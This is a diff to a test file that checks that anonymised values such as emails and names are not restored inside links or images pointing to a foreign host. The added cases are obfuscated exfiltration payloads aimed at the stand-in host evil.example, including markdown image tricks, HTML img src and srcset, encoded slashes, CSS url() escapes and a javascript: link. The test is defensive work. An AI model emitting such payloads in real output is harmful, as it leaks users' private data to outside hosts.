@@ -58,13 +58,31 @@ describe('no value leaves through a link to a foreign host', () => {
     'see https://crm.example%2eevil.example/[EMAIL_1]',
     'see https://crm.example/go?to=https://evil.example/[EMAIL_1]',
     'see https://crm.example/go?to=//evil.example/[EMAIL_1]',
+    '![x](https://evil.example/\\)[EMAIL_1])',
+    '![x](<https://evil.example/)[EMAIL_1]>)',
+    '![x](a\\)//evil.example/[EMAIL_1])',
+    '![x](&sol;&sol;evil.example/[EMAIL_1])',
+    '[x](\u0001javascript:f([EMAIL_1]))',
+    '<a ![x](//evil.example/[EMAIL_1])',
+    '<a b="![x](https:evil.example/[EMAIL_1])',
+    '<a b="www.evil.example/[EMAIL_1]',
+    '<img a:// src="//evil.example/[EMAIL_1]">',
+    '<img src="/\t/evil.example/[EMAIL_1]">',
+    '<img srcset="&#47;&#47;evil.example/[EMAIL_1]">',
+    '<p style="background:url(\\2f\\2f evil.example/[EMAIL_1])">',
+    '<img\nsrc\n=\n"//evil.example/[EMAIL_1]">',
+    '<IMG/SRC="//evil.example/[EMAIL_1]">',
+    '![https://crm.example](https:evil.example/[EMAIL_1])',
+    '[https://crm.example]: //evil.example/[EMAIL_1]',
+    '[![a](//crm.example/a)](https:evil.example/[EMAIL_1])',
+    '[EMAIL_9](//evil.example/[EMAIL_1])',
     `see https://${'a'.repeat(2000)}/[EMAIL_1]`,
     `see https://evil.example/${'a'.repeat(5000)}[EMAIL_1]`,
   ]) {
     test(text.slice(0, 90), () => {
       const counts = noCounts();
       expect(restoreText(text, map, { counts })).toBe(text);
-      expect(counts).toEqual({ restored: 0, refused: 1, unknown: 0 });
+      expect([counts.restored, counts.refused]).toEqual([0, 1]);
       restored(text);
     });
   }
@@ -84,6 +102,9 @@ describe('values go where they harm nobody', () => {
     ['https://evil.example/ [EMAIL_1]', 'https://evil.example/ ann@corp.example'],
     ['"https://evil.example/", [EMAIL_1]', '"https://evil.example/", ann@corp.example'],
     ['<img src="https://evil.example/"> [EMAIL_1]', '<img src="https://evil.example/"> ann@corp.example'],
+    ['[note]: https://evil.example and [PERSON_1]', '[note]: https://evil.example and Ann Weber'],
+    ['<b [PERSON_1]', '<b Ann Weber'],
+    ['[x](<https://evil.example/a)b>) [EMAIL_1]', '[x](<https://evil.example/a)b>) ann@corp.example'],
     ['[PERSON_1]: [EMAIL_1]', 'Ann Weber: ann@corp.example'],
     ['a // b: [EMAIL_1] if x < y', 'a // b: ann@corp.example if x < y'],
     ['To: [PERSON_1] <[EMAIL_1]>', 'To: Ann Weber <ann@corp.example>'],
